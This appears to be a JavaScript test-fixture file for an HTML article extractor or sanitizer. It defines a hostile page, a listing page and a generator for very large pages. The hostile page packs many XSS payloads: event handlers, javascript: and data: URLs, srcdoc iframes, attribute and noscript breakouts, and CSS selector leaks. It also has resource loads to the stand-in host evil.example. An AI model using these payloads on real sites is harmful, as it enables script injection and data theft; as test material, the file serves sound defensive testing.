// Pages of the tests: a hostile one and a large one.
"use strict";

// Each attack would set `window.owned`, open a dialog, or ask the network for evil.example.
const HOSTILE = `<!doctype html><html><head><title>Calm title</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js"></script>
<style>@import url(https://evil.example/i.css); body{background:url(https://evil.example/bg)} input[value^=a]{background:url(https://evil.example/a)}</style>
<script>parent.owned=window.owned=1;alert(1)</script></head>
<body onload="parent.owned=1;alert(2)">
<nav><a href="javascript:parent.owned=1">Home</a> <a href="data:text/html,<script>alert(3)</script>">News</a></nav>
<article><h1>Calm title</h1>
<p>This first paragraph is long enough to be an article, has commas, and ends like any other sentence would.</p>
<p onmouseover="parent.owned=1" style="background:url(https://evil.example/p)">The second paragraph goes on at length, quietly, as though nothing else were here to be seen at all.</p>
<p>&lt;/iframe&gt;&lt;/textarea&gt;&lt;/script&gt;&lt;script&gt;parent.owned=1;alert(4)&lt;/script&gt;&lt;img src=x onerror=alert(5)&gt; is only text in this sentence, and stays it.</p>
<p>"&gt;&lt;svg/onload=alert(6)&gt; ' onfocus=alert(7) autofocus ' is text too, {{data}} {{frame}} as are these, and it has an end.</p>
<img src=x onerror="parent.owned=1;alert(8)"><svg onload="alert(9)"><script>alert(10)</script></svg><math><mtext></mtext></math>
<iframe srcdoc="<script>parent.parent.owned=1;alert(11)</script>"></iframe></iframe></textarea></title></style>
<form action="https://evil.example/"><input autofocus onfocus="alert(12)" value="abc"><button formaction="javascript:alert(13)">Go</button></form>
<a href="https://evil.example/ok" ping="https://evil.example/ping" class="x&quot; onclick=&quot;alert(14)">A link of the page</a>
</article><aside class='"><script>alert(15)</script>' id="'><img src=x onerror=alert(16)>"><p>Related: something else</p></aside>
<noscript><p title="</noscript><script>alert(17)</script>">noscript text</p></noscript>
<template><script>alert(18)</script></template><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
</body></html>`;

// Links to other pages and little else.
const LISTING = `<!doctype html><title>All walks</title><nav><a href="/">Start</a> <a href="/maps">Maps</a></nav><main><h1>All walks</h1><ul>${
  Array.from({ length: 30 }, (_, at) => `<li><a href="/walks/${at}">Walk ${at + 1}</a></li>`).join("")}</ul></main><footer>Terms</footer>`;

function large(bytes) {
  const parts = ["<!doctype html><title>Long report</title><nav><ul>"];
  for (let at = 0; at < 200; at += 1) parts.push(`<li><a href="/s/${at}">Section ${at}</a></li>`);
  parts.push("</ul></nav><article><h1>Long report</h1>");
  let length = 0;
  for (let at = 0; length < bytes; at += 1) {
    const paragraph = `<p>Paragraph ${at} of the report says, in so many words, that the level of the lake was ${at % 97} cm on that day, and “nobody minded”, said the keeper.</p>\n<div class="ad-slot">Advertisement</div>`;
    parts.push(paragraph);
    length += paragraph.length;
  }
  parts.push("</article><footer>Imprint and terms</footer>");
  return parts.join("");
}

module.exports = { HOSTILE, LISTING, large };
